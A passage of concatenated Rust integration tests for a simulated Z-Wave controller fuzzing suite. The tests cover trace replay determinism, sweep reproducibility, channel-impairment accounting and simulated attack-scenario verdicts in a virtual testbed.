//!     --seed 11 --impairment lossy --record tests/golden_traces/d1_seed11_lossy.jsonl
//! ```

use std::path::{Path, PathBuf};

use zcover_suite::zcover::{
    diff_traces, record_campaign, replay, CampaignExecutor, FuzzConfig, Record, Trace, TraceSpec,
};
use zcover_suite::zwave_controller::testbed::Testbed;

fn golden_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden_traces")
}

const GOLDENS: [&str; 7] = [
    "d1_seed11_lossy.jsonl",
    "d1_seed13_coverage_clean.jsonl",
    "d1_seed21_s0nomore_clean.jsonl",
    "d1_seed23_crushing_clean.jsonl",
    "d1_seed5_clean.jsonl",
    "d2_seed7_beta_bursty.jsonl",
    "d3_seed9_gamma_adversarial.jsonl",
];

#[test]
fn every_golden_trace_replays_with_zero_divergence() {
    for name in GOLDENS {
        let trace = Trace::load(&golden_dir().join(name)).expect(name);
        assert!(!trace.events.is_empty(), "{name}: empty journal");
        let report = replay(&trace).expect(name);
        assert!(report.is_clean(), "{name}:\n{}", report.render());
        assert_eq!(report.recorded_events, report.replayed_events, "{name}");
    }
}

#[test]
fn golden_traces_are_byte_identical_to_a_fresh_recording() {
    // Stronger than replay-clean: re-recording from the golden's header
    // must reproduce the committed file byte for byte (header included).
    for name in GOLDENS {
        let path = golden_dir().join(name);
        let golden_text = std::fs::read_to_string(&path).expect(name);
        let golden = Trace::from_jsonl(&golden_text).expect(name);
        let model = zcover_suite::zwave_controller::testbed::DeviceModel::all()
            .into_iter()
            .find(|m| m.idx() == golden.meta.device)
            .expect("golden names a known device");
        let config = FuzzConfig::named(&golden.meta.config, golden.meta.budget, golden.meta.seed)
            .expect("golden names a known config")
            .with_impairment(golden.meta.impairment)
            .with_scenario(golden.meta.scenario);
        let fresh = record_campaign(model, &golden.meta.config, config).expect(name);
        assert_eq!(fresh.trace.to_jsonl(), golden_text, "{name}: journal drifted");
    }
}

#[test]
fn attack_goldens_journal_attacker_frames_and_verdicts() {
    // The two attack-campaign goldens must carry the adversary alongside
    // the fuzzer: scripted frames as `"t":"attack"` events (in strictly
    // increasing index order) and the seeded attack bugs among the
    // recorded verdicts.
    for (name, scenario, bug_ids) in [
        ("d1_seed21_s0nomore_clean.jsonl", "s0-no-more", vec![16u8]),
        ("d1_seed23_crushing_clean.jsonl", "crushing-the-wave", vec![17, 18]),
    ] {
        let path = golden_dir().join(name);
        let text = std::fs::read_to_string(&path).expect(name);
        let trace = Trace::from_jsonl(&text).expect(name);
        assert_eq!(trace.meta.scenario.name(), scenario, "{name}");
        let indices: Vec<u64> = trace
            .events
            .iter()
            .filter_map(|e| match e {
                Record::Attack { index, .. } => Some(*index),
                _ => None,
            })
            .collect();
        assert!(!indices.is_empty(), "{name}: no attacker frames journaled");
        assert!(indices.windows(2).all(|w| w[0] < w[1]), "{name}: indices out of order");
        for bug in bug_ids {
            assert!(
                trace
                    .events
                    .iter()
                    .any(|e| matches!(e, Record::Oracle { bug: b, .. } if *b == u64::from(bug))),
                "{name}: bug {bug} verdict missing from the journal"
            );
        }
    }
}

#[test]
fn perturbed_seed_reports_first_divergence_with_index_and_time() {
    // The acceptance-criteria scenario: flip the recorded seed and the
    // replay must pinpoint the first divergent event, not just fail.
    let path = golden_dir().join("d1_seed11_lossy.jsonl");
    let text = std::fs::read_to_string(&path).expect("golden exists");
    let perturbed_text = text.replacen("\"seed\":11", "\"seed\":12", 1);
    assert_ne!(perturbed_text, text, "perturbation applied");
    let perturbed = Trace::from_jsonl(&perturbed_text).expect("still well-formed");
    let report = replay(&perturbed).expect("replay executes");
    let d = report.divergence.as_ref().expect("seed flip must diverge");
    // The very first frame on air depends on the seed, so the divergence
    // lands at event 0, with the recorded virtual timestamp attached.
    assert_eq!(d.index, 0);
    assert_eq!(d.at_us, perturbed.at_us(0));
    assert!(d.at_us.is_some(), "divergent event carries a virtual time");
    assert!(d.expected.is_some() && d.actual.is_some());
    assert_ne!(d.expected, d.actual);
    let rendered = report.render();
    assert!(rendered.contains("DIVERGENCE at event 0"), "{rendered}");
    assert!(rendered.contains("virtual t = "), "{rendered}");
}

#[test]
fn mid_stream_divergence_carries_context_lines() {
    // Corrupt one event deep in the stream (rather than the header): the
    // diff must report that exact index and surface the preceding lines.
    let golden = Trace::load(&golden_dir().join("d1_seed5_clean.jsonl")).expect("golden");
    let mut mutated = golden.clone();
    let victim = mutated.events.len() / 2;
    mutated.events[victim] = Record::Raw("{\"T\":\"mangled\"}".to_string());
    let report = diff_traces(&golden, &mutated);
    let d = report.divergence.expect("mutation must surface");
    assert_eq!(d.index, victim);
    assert_eq!(d.context.len(), 3.min(victim));
    // Context lines are the rendered JSONL of the preceding events: line
    // 0 of to_jsonl() is the header, so event k sits on line k + 1.
    let jsonl = golden.to_jsonl();
    let lines: Vec<&str> = jsonl.lines().collect();
    assert_eq!(d.context.last().map(String::as_str), Some(lines[victim]));
}

#[test]
fn executor_recorded_trials_are_worker_count_independent() {
    // Each worker records its claimed trials into per-trial files; the
    // files must be byte-identical whether one worker or four ran them.
    let tmp = std::env::temp_dir().join(format!("zcover_trace_wc_{}", std::process::id()));
    std::fs::create_dir_all(&tmp).expect("temp dir");
    let config = FuzzConfig::full(std::time::Duration::from_secs(30), 5);
    let record = |workers: usize, tag: &str| -> Vec<String> {
        let spec = TraceSpec {
            device: "D1".to_string(),
            config_name: "full".to_string(),
            prefix: tmp.join(tag),
        };
        let model = zcover_suite::zwave_controller::testbed::DeviceModel::D1;
        CampaignExecutor::new(workers)
            .run_with_trace(3, 5, |seed| Testbed::new(model, seed), &config, Some(&spec))
            .expect("trials run");
        (0..3)
            .map(|t| std::fs::read_to_string(spec.trial_path(t)).expect("trace written"))
            .collect()
    };
    let sequential = record(1, "seq");
    let parallel = record(4, "par");
    assert_eq!(sequential, parallel, "worker scheduling leaked into a recorded trace");
    for (trial, text) in sequential.iter().enumerate() {
        let trace = Trace::from_jsonl(text).expect("well-formed per-trial trace");
        assert!(replay(&trace).expect("replays").is_clean(), "trial {trial} not replayable");
    }
    std::fs::remove_dir_all(&tmp).ok();
}

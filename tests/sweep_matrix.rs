//! The sharded-sweep determinism matrix.
//!
//! A sweep fans thousands of independent home networks across the
//! `CampaignExecutor` worker pool; the promise is that the merged
//! [`SweepSummary`] is a pure function of the sweep configuration — the
//! worker count decides only wall-clock time. This file pins that promise
//! over a (homes × topology × mode) grid for worker counts 1, 2 and 4,
//! and pins the flagship topology result: bug #19 lives *only* on the
//! routed path, so a mesh sweep finds it while the flat single-home
//! testbed — the paper's original setting — cannot.

use std::time::Duration;

use zcover_suite::zcover::{run_sweep, CampaignExecutor, FuzzConfig, SweepConfig, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_controller::Topology;

/// A short campaign is enough: the proprietary class is fuzzed first and
/// the unknown-class exploration plan opens with command 0x00, so the
/// routed-path bug falls inside any budget that survives discovery.
fn base_config(seed: u64) -> FuzzConfig {
    FuzzConfig::full(Duration::from_secs(60), seed)
}

#[test]
fn sweep_grid_is_bit_identical_across_worker_counts() {
    for topology in Topology::all() {
        for (mode_name, homes) in [("full", 5u64), ("vfuzz", 3u64)] {
            let base = FuzzConfig::named(mode_name, Duration::from_secs(45), 9)
                .expect("known configuration name");
            let config = SweepConfig::new(homes, topology, base).with_shard_size(2);
            let reference = run_sweep(&CampaignExecutor::new(1), &config).expect("sweep runs").0;
            assert_eq!(
                reference.shards.iter().map(|s| s.homes).sum::<u64>(),
                homes,
                "{topology} {mode_name}: every home is swept exactly once"
            );
            for workers in [2usize, 4] {
                let other =
                    run_sweep(&CampaignExecutor::new(workers), &config).expect("sweep runs").0;
                assert_eq!(
                    reference, other,
                    "{topology} {mode_name}: summary must not depend on {workers} workers"
                );
            }
        }
    }
}

#[test]
fn rerunning_the_same_sweep_reproduces_the_summary() {
    let config = SweepConfig::new(4, Topology::Mesh, base_config(21)).with_shard_size(3);
    let executor = CampaignExecutor::new(2);
    let first = run_sweep(&executor, &config).expect("sweep runs").0;
    let second = run_sweep(&executor, &config).expect("sweep runs").0;
    assert_eq!(first, second);
}

#[test]
fn routed_path_bug_needs_a_multi_hop_topology() {
    // On star homes the controller is in direct range: no injection
    // route, no routed frames, no bug #19 — same for the flat testbed.
    let star = SweepConfig::new(4, Topology::Star, base_config(5)).with_shard_size(2);
    let star_summary = run_sweep(&CampaignExecutor::new(2), &star).expect("sweep runs").0;
    assert!(
        !star_summary.hit_counts.contains_key(&19),
        "star homes have no routed path for bug #19 to live on"
    );

    // Line and mesh homes put repeaters between attacker and controller;
    // the campaign's crafted frames ride that chain and the routed-path
    // bug surfaces in every home.
    for topology in [Topology::Line, Topology::Mesh] {
        let config = SweepConfig::new(4, topology, base_config(5)).with_shard_size(2);
        let summary = run_sweep(&CampaignExecutor::new(2), &config).expect("sweep runs").0;
        assert_eq!(
            summary.hit_counts.get(&19),
            Some(&4),
            "{topology}: every multi-hop home exposes the routed-path bug"
        );
    }
}

#[test]
fn flat_single_home_campaign_cannot_see_the_routed_path_bug() {
    // The paper's original setting: one controller, direct range. Same
    // engine, same budget, same seeds as the sweep homes — bug #19 is
    // structurally out of reach without a mesh.
    for seed in [3u64, 5, 21] {
        let mut tb = Testbed::new(DeviceModel::D1, seed);
        let mut zc = ZCover::attach(&tb, 70.0);
        let campaign = zc.run_campaign(&mut tb, base_config(seed)).expect("campaign runs").campaign;
        assert!(
            campaign.findings.iter().all(|f| f.bug_id != 19),
            "seed {seed}: the flat testbed found the multi-hop-only bug"
        );
    }
}

#[test]
fn mixed_city_outproduces_any_single_model_in_coverage() {
    // The rotated D1..D7 population lights more distinct dispatch edges
    // than the number any one home can reach, because different firmware
    // implements different command-class sets.
    let config = SweepConfig::new(7, Topology::Line, base_config(2)).with_shard_size(7);
    let summary = run_sweep(&CampaignExecutor::new(1), &config).expect("sweep runs").0;
    assert_eq!(summary.shards.len(), 1);
    let per_home_max = summary.counters.edges_seen / 7;
    assert!(
        summary.coverage_edges > per_home_max,
        "city-wide union {} should beat the mean per-home count {}",
        summary.coverage_edges,
        per_home_max
    );
}

//! Failure-injection integration tests: campaigns under channel loss and
//! corruption, verifying the fuzzer degrades gracefully and the oracle
//! never produces phantom findings.

use std::time::Duration;

use zcover_suite::zcover::{Dongle, FuzzConfig, PingOutcome, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_protocol::NodeId;
use zcover_suite::zwave_radio::{
    ImpairmentProfile, ImpairmentSchedule, ImpairmentStage, NoiseModel,
};

#[test]
fn campaign_tolerates_a_lossy_channel() {
    let mut tb = Testbed::new(DeviceModel::D1, 31);
    // 20 % flat loss: pings and responses vanish regularly.
    tb.medium().set_noise(NoiseModel::lossy(0.2));
    let mut zcover = ZCover::attach(&tb, 70.0);
    let report =
        zcover.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(3600), 31)).unwrap();
    // Loss slows discovery but the deterministic plans still land; expect
    // the large majority of bugs within the hour.
    assert!(
        report.campaign.unique_vulns() >= 12,
        "only {} bugs under 20% loss",
        report.campaign.unique_vulns()
    );
    // Every reported finding is backed by a verified fault record — loss
    // cannot fabricate findings.
    for f in &report.campaign.findings {
        assert!(tb.controller().fault_log().records().iter().any(|r| r.bug_id == f.bug_id));
    }
}

#[test]
fn corrupted_frames_never_become_findings() {
    let mut tb = Testbed::new(DeviceModel::D3, 32);
    // Every delivered frame gets one corrupted byte. D3 has no MAC quirks,
    // so corrupted frames die at the checksum and nothing can fire except
    // through an intact (uncorrupted) frame — with corruption=1.0 there
    // are none.
    tb.medium().set_noise(NoiseModel { corruption: 1.0, ..NoiseModel::clean() });
    let mut zcover = ZCover::attach(&tb, 70.0);
    match zcover.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(600), 32)) {
        Ok(report) => {
            assert_eq!(report.campaign.unique_vulns(), 0);
        }
        Err(_) => {
            // Total corruption may already break fingerprinting — also a
            // graceful outcome.
        }
    }
    let zero_days = tb.controller().fault_log().records().iter().filter(|r| r.bug_id <= 15).count();
    assert_eq!(zero_days, 0, "corrupted frames must not trigger application-layer bugs");
}

#[test]
fn quirky_models_may_glitch_under_corruption_but_never_lose_nvm() {
    // D4 has pre-parse MAC quirks: corrupted frames can hit them (that is
    // exactly what they model), but the application layer stays sealed.
    let mut tb = Testbed::new(DeviceModel::D4, 33);
    tb.medium().set_noise(NoiseModel { corruption: 0.5, ..NoiseModel::clean() });
    let attacker = tb.attach_attacker(70.0);
    let nvm_before = tb.controller().nvm().snapshot();
    for i in 0..500u32 {
        let frame = zcover_suite::zwave_protocol::MacFrame::singlecast(
            tb.controller().home_id(),
            zcover_suite::zwave_protocol::NodeId(0x03),
            zcover_suite::zwave_protocol::NodeId(0x01),
            vec![0x20, 0x02, (i & 0xFF) as u8],
        );
        attacker.transmit(&frame.encode());
        tb.pump();
    }
    assert_eq!(tb.controller().nvm(), &nvm_before, "corruption must never tamper NVM");
    assert!(
        tb.controller().fault_log().records().iter().all(|r| r.bug_id > 100),
        "only MAC quirks may fire under corruption"
    );
}

#[test]
fn fingerprinting_succeeds_despite_moderate_loss() {
    let mut tb = Testbed::new(DeviceModel::D6, 34);
    tb.medium().set_noise(NoiseModel::lossy(0.3));
    let mut zcover = ZCover::attach(&tb, 70.0);
    let scan = zcover.fingerprint(&mut tb).expect("three rounds of traffic survive 30% loss");
    assert_eq!(scan.home_id, tb.controller().home_id());
}

// ──────────────── Adversarial-channel scenarios (impairment layer) ────────────────

#[test]
fn duplicated_channel_frames_are_reacked_but_not_reprocessed() {
    // A channel that duplicates every frame exercises the controller's
    // link-layer duplicate filter: the copy is acknowledged again (its ack
    // may have been the lost half of the exchange) but must not dispatch
    // to the application layer twice.
    let mut tb = Testbed::new(DeviceModel::D1, 41);
    tb.medium().set_impairment(
        ImpairmentSchedule::clean().with(ImpairmentStage::Duplicate { probability: 1.0 }),
    );
    let mut dongle = Dongle::attach(tb.medium(), 70.0);
    let before = tb.controller().stats();
    // VERSION_GET from the (spoofed) lock: a benign, answerable request.
    dongle.inject_apl(tb.controller().home_id(), NodeId(0x02), NodeId(0x01), vec![0x86, 0x11]);
    tb.pump();
    let after = tb.controller().stats();
    assert_eq!(after.apl_processed - before.apl_processed, 1, "duplicate was reprocessed");
    assert_eq!(after.acks_sent - before.acks_sent, 2, "duplicate was not re-acked");
    assert!(tb.controller().link_stats().duplicates_suppressed >= 1);
}

#[test]
fn blackout_window_silences_the_controller_then_recovers() {
    // A scripted 30 s blackout at the start of the timeline: pings inside
    // the window vanish (no crash is declared), pings after it answer.
    let mut tb = Testbed::new(DeviceModel::D2, 42);
    tb.medium().set_impairment(ImpairmentSchedule::clean().with(ImpairmentStage::Blackout {
        first_start: Duration::ZERO,
        every: Duration::ZERO,
        length: Duration::from_secs(30),
    }));
    let mut dongle = Dongle::attach(tb.medium(), 70.0);
    let home = tb.controller().home_id();

    dongle.send_ping(home, NodeId(0x02), NodeId(0x01));
    tb.pump();
    assert_eq!(
        dongle.check_ping(NodeId(0x01)),
        PingOutcome::Unresponsive,
        "the blackout window must silence the channel"
    );
    tb.clock().advance(Duration::from_secs(31));
    dongle.send_ping(home, NodeId(0x02), NodeId(0x01));
    tb.pump();
    assert_eq!(
        dongle.check_ping(NodeId(0x01)),
        PingOutcome::Alive,
        "the controller was healthy all along; only the channel was dark"
    );
    assert!(tb.medium().stats().blackout_drops > 0);
}

#[test]
fn controller_retransmits_its_unacked_responses_under_heavy_loss() {
    // When the channel eats the slave's ack, the controller's own link
    // layer retries its response with backoff instead of giving up.
    let mut tb = Testbed::new(DeviceModel::D1, 43);
    tb.medium().set_impairment(
        ImpairmentSchedule::clean().with(ImpairmentStage::Loss { probability: 0.6 }),
    );
    let mut dongle = Dongle::attach(tb.medium(), 70.0);
    let home = tb.controller().home_id();
    for _ in 0..20 {
        // Each VERSION_GET makes the controller answer the spoofed lock;
        // 60% loss guarantees some of those answers go unacked.
        dongle.inject_apl(home, NodeId(0x02), NodeId(0x01), vec![0x86, 0x11]);
        tb.pump();
        tb.clock().advance(Duration::from_millis(400));
        tb.pump();
    }
    let stats = tb.controller().link_stats();
    assert!(stats.retransmissions > 0, "no response was ever retried under 60% loss");
}

#[test]
fn campaign_under_the_adversarial_profile_degrades_gracefully() {
    // The nastiest named profile (burst loss + truncation + bit flips +
    // duplication + reordering + periodic blackouts): the campaign must
    // keep finding real bugs and must never report phantom ones.
    let mut tb = Testbed::new(DeviceModel::D1, 44);
    let mut zcover = ZCover::attach(&tb, 70.0);
    let config = FuzzConfig::full(Duration::from_secs(3600), 44)
        .with_impairment(ImpairmentProfile::Adversarial);
    let report = zcover.run_campaign(&mut tb, config).expect("fingerprinting survives");
    assert!(
        report.campaign.unique_vulns() >= 8,
        "only {} bugs under the adversarial profile",
        report.campaign.unique_vulns()
    );
    for f in &report.campaign.findings {
        assert!(tb.controller().fault_log().records().iter().any(|r| r.bug_id == f.bug_id));
    }
    // The channel accounting shows the profile actually bit.
    let c = report.campaign.counters;
    assert!(c.losses > 0 && c.truncations > 0 && c.blackout_drops > 0);
}

//! Failure-injection integration tests: campaigns under channel loss and
//! corruption, verifying the fuzzer degrades gracefully and the oracle
//! never produces phantom findings.

use std::time::Duration;

use zcover_suite::zcover::{FuzzConfig, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_radio::NoiseModel;

#[test]
fn campaign_tolerates_a_lossy_channel() {
    let mut tb = Testbed::new(DeviceModel::D1, 31);
    // 20 % flat loss: pings and responses vanish regularly.
    tb.medium().set_noise(NoiseModel::lossy(0.2));
    let mut zcover = ZCover::attach(&tb, 70.0);
    let report =
        zcover.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(3600), 31)).unwrap();
    // Loss slows discovery but the deterministic plans still land; expect
    // the large majority of bugs within the hour.
    assert!(
        report.campaign.unique_vulns() >= 12,
        "only {} bugs under 20% loss",
        report.campaign.unique_vulns()
    );
    // Every reported finding is backed by a verified fault record — loss
    // cannot fabricate findings.
    for f in &report.campaign.findings {
        assert!(tb.controller().fault_log().records().iter().any(|r| r.bug_id == f.bug_id));
    }
}

#[test]
fn corrupted_frames_never_become_findings() {
    let mut tb = Testbed::new(DeviceModel::D3, 32);
    // Every delivered frame gets one corrupted byte. D3 has no MAC quirks,
    // so corrupted frames die at the checksum and nothing can fire except
    // through an intact (uncorrupted) frame — with corruption=1.0 there
    // are none.
    tb.medium().set_noise(NoiseModel { corruption: 1.0, ..NoiseModel::clean() });
    let mut zcover = ZCover::attach(&tb, 70.0);
    match zcover.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(600), 32)) {
        Ok(report) => {
            assert_eq!(report.campaign.unique_vulns(), 0);
        }
        Err(_) => {
            // Total corruption may already break fingerprinting — also a
            // graceful outcome.
        }
    }
    let zero_days = tb.controller().fault_log().records().iter().filter(|r| r.bug_id <= 15).count();
    assert_eq!(zero_days, 0, "corrupted frames must not trigger application-layer bugs");
}

#[test]
fn quirky_models_may_glitch_under_corruption_but_never_lose_nvm() {
    // D4 has pre-parse MAC quirks: corrupted frames can hit them (that is
    // exactly what they model), but the application layer stays sealed.
    let mut tb = Testbed::new(DeviceModel::D4, 33);
    tb.medium().set_noise(NoiseModel { corruption: 0.5, ..NoiseModel::clean() });
    let attacker = tb.attach_attacker(70.0);
    let nvm_before = tb.controller().nvm().snapshot();
    for i in 0..500u32 {
        let frame = zcover_suite::zwave_protocol::MacFrame::singlecast(
            tb.controller().home_id(),
            zcover_suite::zwave_protocol::NodeId(0x03),
            zcover_suite::zwave_protocol::NodeId(0x01),
            vec![0x20, 0x02, (i & 0xFF) as u8],
        );
        attacker.transmit(&frame.encode());
        tb.pump();
    }
    assert_eq!(tb.controller().nvm(), &nvm_before, "corruption must never tamper NVM");
    assert!(
        tb.controller().fault_log().records().iter().all(|r| r.bug_id > 100),
        "only MAC quirks may fire under corruption"
    );
}

#[test]
fn fingerprinting_succeeds_despite_moderate_loss() {
    let mut tb = Testbed::new(DeviceModel::D6, 34);
    tb.medium().set_noise(NoiseModel::lossy(0.3));
    let mut zcover = ZCover::attach(&tb, 70.0);
    let scan = zcover.fingerprint(&mut tb).expect("three rounds of traffic survive 30% loss");
    assert_eq!(scan.home_id, tb.controller().home_id());
}

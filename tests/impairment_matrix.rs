//! The adversarial-channel scenario matrix: every named impairment
//! profile, crossed with worker counts and the full device testbed.
//!
//! Three properties are pinned here (EXPERIMENTS.md "Adversarial
//! channel"):
//!
//! 1. **Determinism** — for a fixed (campaign seed, profile), trial
//!    results are bit-identical whatever the executor's worker count.
//! 2. **Robustness** — the paper-reproducible Table III bugs still
//!    surface on every device under the `lossy` and `bursty` profiles
//!    within a bounded virtual budget (4 h).
//! 3. **Accounting** — per-trial [`CampaignCounters`] report the channel
//!    impairments (losses, duplicates, reorders, truncations, blackout
//!    drops) and the dongle's reaction (retransmissions, ack timeouts).

use std::time::Duration;

use zcover_suite::zcover::{
    CampaignExecutor, CampaignResult, FuzzConfig, ImpairmentProfile, ZCover,
};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

/// Bugs #06 and #13 need the PC controller program, which the smart hubs
/// D6/D7 do not run (Table III "affected devices").
fn expected_bugs(model: DeviceModel) -> Vec<u8> {
    match model {
        DeviceModel::D6 | DeviceModel::D7 => vec![1, 2, 3, 4, 5, 7, 8, 9, 10, 11, 12, 14, 15],
        _ => (1..=15).collect(),
    }
}

fn run_matrix_trials(
    model: DeviceModel,
    profile: ImpairmentProfile,
    trials: u64,
    workers: usize,
    budget: Duration,
) -> Vec<CampaignResult> {
    let config = FuzzConfig::full(budget, 0).with_impairment(profile);
    let summary = CampaignExecutor::new(workers)
        .run(trials, 0xC0FFEE, |seed| Testbed::new(model, seed), &config)
        .expect("fingerprinting succeeds under every profile");
    summary.per_trial
}

#[test]
fn trials_are_bit_identical_across_worker_counts_for_every_profile() {
    // The core acceptance gate: (seed, profile) fully determines the
    // campaign; the worker count is pure mechanics.
    let budget = Duration::from_secs(1800);
    for profile in ImpairmentProfile::all() {
        let baseline = run_matrix_trials(DeviceModel::D1, profile, 3, 1, budget);
        for workers in [2, 4] {
            let multi = run_matrix_trials(DeviceModel::D1, profile, 3, workers, budget);
            assert_eq!(
                baseline, multi,
                "profile {profile}: trial results diverged between 1 and {workers} workers"
            );
        }
    }
}

#[test]
fn rerunning_a_profile_reproduces_the_same_campaign() {
    for profile in [ImpairmentProfile::Lossy, ImpairmentProfile::Adversarial] {
        let a = run_matrix_trials(DeviceModel::D3, profile, 2, 2, Duration::from_secs(1200));
        let b = run_matrix_trials(DeviceModel::D3, profile, 2, 2, Duration::from_secs(1200));
        assert_eq!(a, b, "profile {profile} is not reproducible");
    }
}

#[test]
fn lossy_channel_still_surfaces_every_paper_bug_on_every_device() {
    // Table III under `lossy`: 15% flat loss + corruption + duplication
    // slows the campaign but must not hide any reproducible bug within a
    // 4 h virtual budget.
    for model in DeviceModel::all() {
        let results =
            run_matrix_trials(model, ImpairmentProfile::Lossy, 1, 1, Duration::from_secs(4 * 3600));
        let mut ids: Vec<u8> =
            results[0].findings.iter().map(|f| f.bug_id).filter(|id| *id <= 15).collect();
        ids.sort_unstable();
        assert_eq!(ids, expected_bugs(model), "{model:?} under lossy");
    }
}

#[test]
fn bursty_channel_still_surfaces_every_paper_bug_on_every_device() {
    // Same matrix row under Gilbert-Elliott burst loss with reordering:
    // correlated loss (90% in the bad state) is the harder regime for the
    // retransmission machinery, since whole exchanges vanish at once.
    for model in DeviceModel::all() {
        let results = run_matrix_trials(
            model,
            ImpairmentProfile::Bursty,
            1,
            1,
            Duration::from_secs(4 * 3600),
        );
        let mut ids: Vec<u8> =
            results[0].findings.iter().map(|f| f.bug_id).filter(|id| *id <= 15).collect();
        ids.sort_unstable();
        assert_eq!(ids, expected_bugs(model), "{model:?} under bursty");
    }
}

#[test]
fn campaign_counters_report_the_channel_impairments_per_trial() {
    let lossy = run_matrix_trials(
        DeviceModel::D1,
        ImpairmentProfile::Lossy,
        1,
        1,
        Duration::from_secs(1800),
    );
    let c = lossy[0].counters;
    assert!(c.losses > 0, "lossy profile produced no losses");
    assert!(c.duplicates > 0, "lossy profile produced no duplicates");
    assert!(c.retransmissions > 0, "loss never triggered a retransmission");
    assert!(c.ack_timeouts > 0, "15% loss should exhaust some retransmission budgets");

    let adversarial = run_matrix_trials(
        DeviceModel::D1,
        ImpairmentProfile::Adversarial,
        1,
        1,
        Duration::from_secs(1800),
    );
    let c = adversarial[0].counters;
    assert!(c.losses > 0, "adversarial profile produced no losses");
    assert!(c.truncations > 0, "adversarial profile produced no truncations");
    assert!(c.reorders > 0, "adversarial profile produced no reorders");
    assert!(c.blackout_drops > 0, "the scripted blackout window never fired");
}

#[test]
fn clean_profile_reports_zero_channel_impairments() {
    let clean = run_matrix_trials(
        DeviceModel::D1,
        ImpairmentProfile::Clean,
        1,
        1,
        Duration::from_secs(3600),
    );
    let c = clean[0].counters;
    assert_eq!(c.losses, 0);
    assert_eq!(c.duplicates, 0);
    assert_eq!(c.reorders, 0);
    assert_eq!(c.truncations, 0);
    assert_eq!(c.blackout_drops, 0);
    assert_eq!(c.ack_timeouts, 0, "a live controller acks every frame on a clean channel");
    // Clean-channel campaigns are the PR-1 baseline: the link layer must
    // not change what the fuzzer finds there.
    let mut ids: Vec<u8> =
        clean[0].findings.iter().map(|f| f.bug_id).filter(|id| *id <= 15).collect();
    ids.sort_unstable();
    assert_eq!(ids, expected_bugs(DeviceModel::D1));
}

#[test]
fn impaired_channels_never_fabricate_findings() {
    // The oracle ground truth: every finding reported under the nastiest
    // profile is backed by a fault record in the controller's own log.
    let mut tb = Testbed::new(DeviceModel::D4, 51);
    let mut zcover = ZCover::attach(&tb, 70.0);
    let config = FuzzConfig::full(Duration::from_secs(1800), 51)
        .with_impairment(ImpairmentProfile::Adversarial);
    let report = zcover.run_campaign(&mut tb, config).expect("fingerprinting under adversarial");
    for f in &report.campaign.findings {
        assert!(
            tb.controller().fault_log().records().iter().any(|r| r.bug_id == f.bug_id),
            "finding #{:02} has no backing fault record",
            f.bug_id
        );
    }
}

//! The attack-scenario matrix: every (scenario × fuzz mode × impairment
//! profile) cell must produce a bit-identical [`TrialSummary`] for any
//! executor worker count, and the scripted attack must surface its seeded
//! verdicts within the virtual-time budget in every cell.
//!
//! Also pins the two remediation negatives: a controller patched against
//! the scenario's bugs yields **zero** attack verdicts — in particular, an
//! adversarial blackout window (the controller goes dark mid-flood) must
//! not be misclassified as a battery-drain finding.

use std::time::Duration;

use zcover_suite::zcover::{CampaignExecutor, FuzzConfig, Scenario, TrialSummary, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_radio::ImpairmentProfile;

/// The three fuzzing modes the comparison harness scores.
const MODES: [&str; 3] = ["full", "vfuzz", "coverage"];

/// Virtual budget long enough for both scripts: the S0-No-More flood
/// exhausts the 4 mJ wake/TX budget by ~15 s and the Crushing-the-Wave
/// script finishes its key-reset phase by ~40 s. Well short of the
/// adversarial profile's first blackout (600 s), so every profile's cell
/// exercises the same attack window.
const BUDGET: Duration = Duration::from_secs(60);

/// Bugs a scenario is expected to surface in every matrix cell.
fn expected_bugs(scenario: Scenario) -> &'static [u8] {
    match scenario {
        Scenario::None => &[],
        Scenario::S0NoMore => &[16],
        Scenario::CrushingTheWave => &[17, 18],
    }
}

fn cell(
    scenario: Scenario,
    mode: &str,
    profile: ImpairmentProfile,
    workers: usize,
) -> TrialSummary {
    let config = FuzzConfig::named(mode, BUDGET, 31)
        .expect("known mode")
        .with_impairment(profile)
        .with_scenario(scenario);
    CampaignExecutor::new(workers)
        .run(2, 31, |seed| Testbed::new(DeviceModel::D1, seed), &config)
        .expect("matrix cell runs")
}

#[test]
fn every_cell_is_worker_count_independent_and_surfaces_the_attack() {
    for scenario in Scenario::all() {
        for mode in MODES {
            for profile in ImpairmentProfile::all() {
                let label = format!("{scenario} × {mode} × {profile}");
                let baseline = cell(scenario, mode, profile, 1);
                for workers in [2, 4] {
                    assert_eq!(
                        baseline,
                        cell(scenario, mode, profile, workers),
                        "{label}: {workers} workers diverged from sequential"
                    );
                }
                for bug in expected_bugs(scenario) {
                    assert!(
                        baseline.union_bug_ids.contains(bug),
                        "{label}: bug {bug} not found within {BUDGET:?} (got {:?})",
                        baseline.union_bug_ids
                    );
                }
                assert!(
                    baseline.counters.attack_frames > 0,
                    "{label}: the adversary never transmitted"
                );
                assert!(
                    baseline.counters.attack_verdicts >= expected_bugs(scenario).len() as u64,
                    "{label}: attack verdicts not counted"
                );
            }
        }
    }
}

#[test]
fn attack_verdicts_arrive_within_the_virtual_budget() {
    // The verdicts land inside the campaign's own virtual horizon (the
    // exact instant is seed-dependent: a fuzzer-triggered outage makes the
    // controller deaf to part of the flood, deferring energy exhaustion),
    // and the Crushing-the-Wave phases keep their causal order — the
    // downgrade strictly precedes the key-reset lockout.
    let summary = cell(Scenario::S0NoMore, "full", ImpairmentProfile::Clean, 1);
    let horizon = summary.per_trial.iter().map(|t| t.ended).max().expect("trials ran");
    let drain = summary.unique_findings.iter().find(|f| f.bug_id == 16).expect("drain verdict");
    assert!(drain.found_at <= horizon, "drain at {:?} after horizon {horizon:?}", drain.found_at);
    let summary = cell(Scenario::CrushingTheWave, "full", ImpairmentProfile::Clean, 1);
    let horizon = summary.per_trial.iter().map(|t| t.ended).max().expect("trials ran");
    let downgrade = summary.unique_findings.iter().find(|f| f.bug_id == 17).expect("downgrade");
    let lockout = summary.unique_findings.iter().find(|f| f.bug_id == 18).expect("lockout");
    assert!(downgrade.found_at < lockout.found_at, "downgrade precedes the key reset");
